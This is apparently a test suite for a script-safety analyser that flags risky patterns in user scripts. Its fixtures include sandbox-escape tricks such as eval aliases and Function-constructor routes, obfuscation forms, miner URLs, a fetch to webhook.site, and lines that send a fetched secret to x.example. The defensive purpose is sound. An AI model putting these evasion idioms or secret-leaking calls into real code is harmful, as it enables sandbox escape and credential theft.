import { describe, expect, test } from 'vitest'

import type { AnalysisBlock } from '../../../src/config.ts'
import { checkScript } from '../../../src/scripts/check.ts'

const main = '\nexport default () => 1\n'
const check = (source: string, block?: AnalysisBlock) =>
  checkScript({ name: 'suspect', source: source + main, type: 'one_off', config: { block } })

const random = Array.from({ length: 2000 }, (_, index) =>
  'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'.charAt(
    (index * index * 7 + index * 31 + (index >> 3)) % 64,
  ),
).join('')

describe('the analysis flags', () => {
  test.each<[string, string, string, string]>([
    ['eval', 'warning', 'dynamic_code', "eval('1')"],
    ['new Function', 'warning', 'dynamic_code', "new Function('return 1')()"],
    ['Function', 'warning', 'dynamic_code', "Function('return 1')()"],
    ['globalThis.eval', 'warning', 'dynamic_code', "globalThis['eval']('1')"],
    ['eval behind a comma', 'warning', 'dynamic_code', "(0, eval)('1')"],
    ['eval under another name', 'warning', 'dynamic_code', 'const run = eval'],
    ['eval handed on', 'warning', 'dynamic_code', "['1'].map(eval)"],
    ['a timer with text', 'warning', 'dynamic_code', "setTimeout('run()', 1)"],
    ['a constructor of a constructor', 'high', 'constructor_trick', 'const F = ({}).constructor.constructor'],
    [
      'Function by way of a function',
      'high',
      'constructor_trick',
      "(async () => {}).constructor('return 1')",
    ],
    ['the same in pieces', 'high', 'constructor_trick', "[].map['con' + 'struc' + `tor`]('return 1')"],
    [
      'the same by a name that is kept apart',
      'high',
      'constructor_trick',
      "const c = 'constructor'; (() => {})[c]('return 1')",
    ],
    [
      'the same of a part of an object',
      'high',
      'constructor_trick',
      'new globalThis.it.run.constructor(globalThis.it.code)',
    ],
    ['the same in brackets', 'high', 'constructor_trick', "const F = []['constructor']['constructor']"],
    [
      'a global by a computed name',
      'warning',
      'computed_global',
      "const n = 'ev' + 'al'; globalThis[n]('1')",
    ],
    ['an endless while', 'warning', 'endless_loop', 'export const f = () => { while (true) {} }'],
    ['an endless for', 'warning', 'endless_loop', 'export const f = () => { for (;;) { Math.random() } }'],
    [
      'an endless do',
      'warning',
      'endless_loop',
      'export const f = () => { do { Math.random() } while (!0) }',
    ],
    [
      'a loop whose return is of another function',
      'warning',
      'endless_loop',
      'export const f = () => { while (1) { [1].map((x) => { return x }) } }',
    ],
    [
      'a loop whose break is of an inner one',
      'warning',
      'endless_loop',
      'export const f = () => { while (1) { for (const x of [1]) { if (x) break } } }',
    ],
    [
      'an exported variable that changes',
      'info',
      'changed_export',
      'export let n = 0; export const f = () => { n += 1 }',
    ],
    [
      'the same under another name',
      'info',
      'changed_export',
      'let n = 0; function f() { n++ }; export { f, n as m }',
    ],
    ['escaped text', 'warning', 'escaped_text', `const a = '${'\\x61\\u0062'.repeat(20)}'`],
    ['packed text', 'warning', 'packed_text', `const a = '${random}'`],
    ['a very large literal', 'warning', 'large_literal', `const a = \`${'word \n'.repeat(8_000)}\``],
    ['a large literal', 'info', 'large_literal', `const a = \`${'word \n'.repeat(2_000)}\``],
    ['a very long line', 'warning', 'long_line', `const a = [${'1, '.repeat(2_000)}]`],
    ['an obfuscator’s names', 'high', 'obfuscated', 'let _0x1a2b, _0x1a2c, _0x1a2d, _0x1a2e, _0x1a2f'],
    ['a packer’s frame', 'high', 'obfuscated', '(function (p, a, c, k, e, d) { return p })'],
    ['a mining pool', 'high', 'miner', "const pool = 'stratum+tcp://pool.example.com:3333'"],
    ['a miner in a template', 'high', 'miner', 'const url = `https://coinhive.com/lib/`'],
    ['a public drop', 'warning', 'public_drop', "fetch('https://webhook.site/abc')"],
    [
      'a secret in an address',
      'warning',
      'secret_in_address',
      `const k = await sdk.secrets.get('k'); await sdk.http.get(\`https://x.example/?k=\${k}\`)`,
    ],
    [
      'a secret put behind an address',
      'warning',
      'secret_in_address',
      "await fetch('https://x.example/' + (await secrets.get('k')))",
    ],
    ['a pattern that backtracks', 'warning', 'catastrophic_pattern', 'const p = /^(a+)+$/'],
    ['the same as text', 'warning', 'catastrophic_pattern', "const p = new RegExp('(a*)*b')"],
    ['a name that looks like ours', 'high', 'look_alike', 'const ѕесretѕ = 1, fetсh = 2'],
    [
      'a name that looks like another of the script',
      'high',
      'look_alike',
      'const price = 1; const рrice = 2',
    ],
    ['a name of two scripts', 'warning', 'mixed_scripts', 'const nаmeless = 2'],
    ['eval of what would be the window', 'warning', 'dynamic_code', "window['eval']('1')"],
    ['Function under another name', 'warning', 'dynamic_code', 'const F = Function'],
    [
      'Function constructed by Reflect',
      'warning',
      'dynamic_code',
      "Reflect.construct(Function, ['return 1'])",
    ],
    [
      'a timer with a text put together',
      'warning',
      'dynamic_code',
      "const n = 1; setTimeout('run(' + n + ')', 1)",
    ],
    ['Function out of a pattern', 'high', 'constructor_trick', 'const { constructor: F } = async () => {}'],
    ['Function by Reflect', 'high', 'constructor_trick', "Reflect.get(() => {}, 'constructor')('return 1')"],
    [
      'the constructor of a prototype',
      'warning',
      'constructor_trick',
      'const A = Object.getPrototypeOf(async () => {}).constructor',
    ],
    ['a miner in pieces', 'high', 'miner', "fetch('https://coin' + 'hive.com/lib')"],
    [
      'a secret in a query',
      'warning',
      'secret_in_address',
      "const k = await sdk.secrets.get('k'); await sdk.http.get('https://x.example', { query: { k } })",
    ],
    [
      'code of eight signs',
      'high',
      'obfuscated',
      `const f = ${'(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+'.repeat(4)}[]`,
    ],
    ['code of symbols', 'high', 'obfuscated', '$=~[];$={___:++$}'],
    ['a name in full width', 'warning', 'mixed_scripts', 'const ａｄｍｉｎ = 1'],
    [
      'a text to compare with of two scripts',
      'warning',
      'mixed_scripts',
      "const is = (role) => role === '\u0430dmin'",
    ],
    [
      'a text to compare with that holds what nobody sees',
      'warning',
      'invisible_character',
      "const is = (role) => role === 'admin\u200b'",
    ],
    ['a name with what nobody sees', 'high', 'invisible_character', 'const a\u200db = 1'],
    ['a filler for a name', 'high', 'invisible_character', 'const \u3164 = 1'],
  ])('%s (%s)', (_, severity, code, source) => {
    const { findings } = check(`// first line\n${source}`)
    expect(findings).toContainEqual(
      expect.objectContaining({ severity, code, line: 2, column: expect.any(Number) }),
    )
  })

  test('what is most severe where there is much', () => {
    const { findings } = check(`${"eval('1')\n".repeat(100)}const a = 'coinhive'`)
    expect(findings).toHaveLength(20)
    expect(findings).toContainEqual(expect.objectContaining({ code: 'miner', line: 101 }))
  })
})

describe('the operator decides what is rejected', () => {
  const high = "const a = 'coinhive'"
  const warning = "eval('1')"
  test.each<[AnalysisBlock, string, string]>([
    ['none', high, 'accepted'],
    ['high', high, 'rejected'],
    ['warning', high, 'rejected'],
    ['high', warning, 'accepted'],
    ['warning', warning, 'rejected'],
  ])('at %s %s is %3$s', (block, source, state) => {
    expect(check(source, block).state).toBe(state)
  })

  test('a finding for information never rejects', () => {
    expect(check(`const a = \`${'word \n'.repeat(2_000)}\``, 'warning').state).toBe('accepted')
  })
})

describe('hostile sources are read in time that grows with their size', () => {
  const half = 120_000
  test.each<[string, string]>([
    ['many names', Array.from({ length: half / 10 }, (_, i) => `let яя${i}`).join('\n')],
    ['many look-alikes', Array.from({ length: half / 10 }, (_, i) => `let a${i}а`).join('\n')],
    ['nested endless loops', `export const f = () => { ${'while(1){'.repeat(400)}${'}'.repeat(400)} }`],
    ['many endless loops', `export const f = () => { ${'for(;;);'.repeat(half / 8)} }`],
    ['many literals', `const a = [${'"\\x61\\x61\\x61\\x61", '.repeat(half / 20)}]`],
    ['one long text of escapes', `const a = '${'\\x61'.repeat(half / 4)}'`],
    ['a long chain', `const a = 1${'+1'.repeat(700)}; fetch(${'"a"+'.repeat(700)}"b")`],
    ['many patterns', `const a = [${'/(a+b)+/, '.repeat(half / 10)}]`],
    ['one long pattern', `const a = /${'(a|b)*'.repeat(5_000)}/`],
  ])(
    '%s',
    (_, source) => {
      expect(check(source).findings.length).toBeLessThanOrEqual(100)
    },
    20_000,
  )
})
